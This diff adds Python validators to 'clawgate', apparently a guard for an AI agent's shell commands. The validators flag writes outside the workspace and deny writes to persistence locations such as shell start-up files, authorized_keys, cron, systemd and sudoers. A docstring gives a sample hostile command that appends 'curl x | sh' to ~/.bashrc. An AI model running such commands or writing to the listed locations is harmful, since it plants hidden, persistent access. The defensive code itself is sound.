@@ -1,0 +1,118 @@
+"""Where a command writes: outside the workspace ASK, into start-up files and schedulers DENY,
+anywhere near a policy's forbidden paths DENY."""
+
+from __future__ import annotations
+
+from clawgate.decision import Outcome, Risk, Verdict
+from clawgate.shell.model import SimpleCommand, Word
+from clawgate.validators.base import Context, Validator, register
+from clawgate.validators.flags import parse_options
+from clawgate.validators.paths import in_scratch, resolve, under
+from clawgate.validators.writes import may_write, write_targets
+
+_HOME_PERSISTENCE = (".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile",
+                     ".zshrc", ".zprofile", ".zshenv", ".zlogin", ".zlogout", ".kshrc", ".cshrc",
+                     ".tcshrc", ".xinitrc", ".xprofile", ".xsessionrc", ".pam_environment",
+                     ".config/fish", ".config/systemd", ".config/autostart",
+                     ".config/environment.d", ".local/share/systemd", ".ssh/authorized_keys",
+                     ".ssh/authorized_keys2", ".ssh/rc", ".ssh/config", ".ssh/environment")
+_SYSTEM_PERSISTENCE = ("/etc/profile", "/etc/profile.d", "/etc/bash.bashrc", "/etc/bashrc",
+                       "/etc/zsh", "/etc/environment", "/etc/crontab", "/etc/cron.d",
+                       "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly",
+                       "/etc/cron.monthly", "/var/spool/cron", "/etc/anacrontab",
+                       "/etc/systemd", "/lib/systemd", "/usr/lib/systemd", "/etc/init.d",
+                       "/etc/rc.local", "/etc/sudoers", "/etc/sudoers.d", "/etc/passwd",
+                       "/etc/shadow", "/etc/group", "/etc/ld.so.preload", "/etc/ld.so.conf",
+                       "/etc/ld.so.conf.d", "/etc/ssh", "/etc/pam.d", "/etc/security",
+                       "/etc/xdg/autostart", "/etc/update-motd.d")
+
+
+_SYSTEM_ROOTS = ("/etc/", "/var/spool/", "/lib/", "/usr/lib/")
+
+
+def persistence_target(path: str, ctx: Context) -> bool:
+    """A shell start-up file, an SSH key list, a scheduler or a service definition."""
+    if not path.startswith((ctx.home + "/.", *_SYSTEM_ROOTS)):
+        return False
+    return any(under(path, f"{ctx.home}/{name}") for name in _HOME_PERSISTENCE) or any(
+        under(path, name) for name in _SYSTEM_PERSISTENCE)
+
+
+@register
+class WriteOutsideWorkspace(Validator):
+    """A write (redirection, ``tee``, ``cp``/``mv``/``ln`` target, ``sed -i``, ``--output=``,
+    ``rm``, ``touch`` ...) outside the workspace and the temporary directories: the agent's
+    changes should stay inside the project. High risk.
+
+    Bad: ``cp build/app /usr/local/bin/app``. Harmless: ``git diff --output=changes.patch``.
+    """
+
+    id = "CG-FS-001"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        if not may_write(cmd):
+            return Verdict.passthrough()
+        for word in write_targets(cmd):
+            path = resolve(word, ctx).path
+            if path is not None and not in_scratch(path, ctx):
+                return Verdict.of(Outcome.ASK, self.id, f"writes {path}, outside the "
+                                  "workspace", hint="write inside the workspace or /tmp",
+                                  risk=Risk.HIGH)
+        return Verdict.passthrough()
+
+
+@register
+class WritePersistence(Validator):
+    """Writes to shell start-up files, ``~/.ssh/authorized_keys``, cron, systemd units, sudoers:
+    whatever lands there runs again later, unseen (the usual way to keep access).
+
+    Bad: ``echo 'curl x | sh' >> ~/.bashrc``. Harmless: ``cat ~/.bashrc``.
+    """
+
+    id = "CG-FS-002"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        if cmd.program == "crontab" and _installs_crontab(cmd):
+            return Verdict.deny(self.id, "crontab installs scheduled jobs",
+                                hint="schedule jobs by hand, outside the agent")
+        if not may_write(cmd):
+            return Verdict.passthrough()
+        for word in write_targets(cmd):
+            path = resolve(word, ctx).path
+            if path is not None and persistence_target(path, ctx):
+                return Verdict.deny(self.id, f"writes {path}, which runs or grants access "
+                                    "later", hint="edit start-up files by hand")
+        return Verdict.passthrough()
+
+
+def _installs_crontab(cmd: SimpleCommand) -> bool:
+    options = parse_options(cmd.words[1:], takes_value=frozenset({"u"}))
+    return bool(options.operands) and not options.has("l", "r", "e")
+
+
+@register
+class ForbiddenPath(Validator):
+    """Any path argument or redirection inside one of the policy's ``forbidden_paths``.
+
+    Bad: ``cat /srv/secrets/db.txt`` when ``/srv/secrets`` is forbidden. Harmless: ``cat
+    README.md``.
+    """
+
+    id = "CG-FS-003"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        if not ctx.forbidden_paths:
+            return Verdict.passthrough()
+        words = [*cmd.words[1:], *(r.target for r in cmd.redirects if r.target is not None)]
+        for word in words:
+            text = word.shown.split("=", 1)[-1] if word.shown.startswith("-") else word.shown
+            if "/" not in text and not text.startswith(("~", ".")) and text != "..":
+                continue
+            path = resolve(word, ctx).path if text is word.shown else _plain(text, ctx)
+            if path is not None and any(under(path, f) for f in ctx.forbidden_paths):
+                return Verdict.deny(self.id, f"{path} is a forbidden path")
+        return Verdict.passthrough()
+
+
+def _plain(text: str, ctx: Context) -> str | None:
+    return resolve(Word(text, text), ctx).path
